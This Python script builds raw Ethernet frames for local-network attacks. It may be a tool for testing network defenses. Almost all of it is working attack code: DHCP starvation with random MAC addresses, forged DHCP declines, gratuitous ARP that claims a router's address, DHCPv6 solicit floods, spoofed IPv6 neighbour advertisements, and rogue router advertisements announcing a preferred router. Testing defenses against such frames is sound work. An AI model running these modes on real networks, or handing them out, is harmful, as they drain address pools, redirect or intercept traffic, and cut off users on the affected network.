"""Frames that no honest host sends, from the interface that is named first."""

import random
import socket
import struct
import sys
import time

interface, what, *words = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((interface, 0))
own = link.getsockname()[4]
everyone = b"\xff" * 6
draw = random.Random(1)


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def dhcp(sender, client, kind, options=b"", address=bytes(4)):
    """A DHCPv4 message of `client` in a frame of `sender`."""
    message = struct.pack(">BBBBIHH", 1, 1, 6, 0, draw.getrandbits(32), 0, 0x8000)
    message += address + bytes(12) + client + bytes(10 + 192)
    message += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
    message += bytes(max(0, 300 - len(message)))
    datagram = struct.pack(">HHHH", 68, 67, 8 + len(message), 0) + message
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0)
    header += bytes(4) + b"\xff" * 4
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    link.send(everyone + sender + b"\x08\x00" + header + datagram)


def made_up():
    return bytes([2]) + draw.randbytes(5)


def v6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def link_local(mac):
    return v6("fe80::")[:8] + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]


def ipv6(sender, source, group, kind, hops, upper, checksum_at):
    """A packet of `source` to a group in a frame of `sender`."""
    group = v6(group)
    upper = bytearray(upper)
    pseudo = source + group + struct.pack(">II", len(upper), kind)
    upper[checksum_at:checksum_at + 2] = struct.pack(">H", checksum(pseudo + bytes(upper)))
    header = struct.pack(">IHBB", 6 << 28, len(upper), kind, hops) + source + group
    link.send(b"\x33\x33" + group[12:] + sender + b"\x86\xdd" + header + upper)


def solicit(sender, duid):
    """A DHCPv6 client of that name asks for an address, in a frame of `sender`."""
    def option(code, data):
        return struct.pack(">HH", code, len(data)) + data
    message = bytes([1]) + draw.randbytes(3) + option(1, b"\0\x03\0\x01" + duid)
    message += option(3, draw.randbytes(4) + bytes(8)) + option(8, bytes(2))
    datagram = struct.pack(">HHHH", 546, 547, 8 + len(message), 0) + message
    ipv6(sender, link_local(sender), "ff02::1:2", 17, 1, datagram, 6)


if what == "starve":
    # A client at every turn, as DHCP starvation tools do.
    for _ in range(int(words[0])):
        client = made_up()
        dhcp(client, client, 1)
elif what == "names":
    # The clients are made up, the sender is not.
    for _ in range(int(words[0])):
        dhcp(own, made_up(), 1)
elif what == "decline":
    address, server = (socket.inet_aton(word) for word in words)
    dhcp(own, own, 4, bytes([50, 4]) + address + bytes([54, 4]) + server)
elif what == "router":
    # "I have this address", in every form that a neighbour might believe.
    mac, address = bytes.fromhex(words[0].replace(":", "")), socket.inet_aton(words[1])
    for operation, target in ((1, bytes(6)), (2, everyone)):
        arp = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
        arp += mac + address + target + address
        link.send(everyone + mac + b"\x08\x06" + arp + bytes(18))
elif what == "solicit":
    # Client after client behind one host, over so many milliseconds.
    count, duration = (int(word) for word in words)
    for _ in range(count):
        solicit(own, made_up())
        time.sleep(duration / count / 1e3)
elif what == "strangers":
    for _ in range(int(words[0])):
        client = made_up()
        solicit(client, client)
elif what == "neighbour":
    # "I have this address", told to everyone, and shown by a question.
    address = v6(words[0])
    told = struct.pack(">BBHI", 136, 0, 0, 0xA0000000) + address + b"\x02\x01" + own
    ipv6(own, link_local(own), "ff02::1", 58, 255, told, 2)
    asked = struct.pack(">BBHI", 135, 0, 0, 0) + v6("fe80::77") + b"\x01\x01" + own
    ipv6(own, address, "ff02::1:ff00:77", 58, 255, asked, 2)
elif what == "advertise":
    # "I am the router", the preferred one.
    source, prefix, lifetime = v6(words[0]), v6(words[1]), int(words[2])
    told = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0x08, lifetime, 0, 0)
    told += b"\x01\x01" + own
    told += struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
    for _ in range(20):
        ipv6(own, source, "ff02::1", 58, 255, told, 2)
else:
    sys.exit(f"there is no {what}")
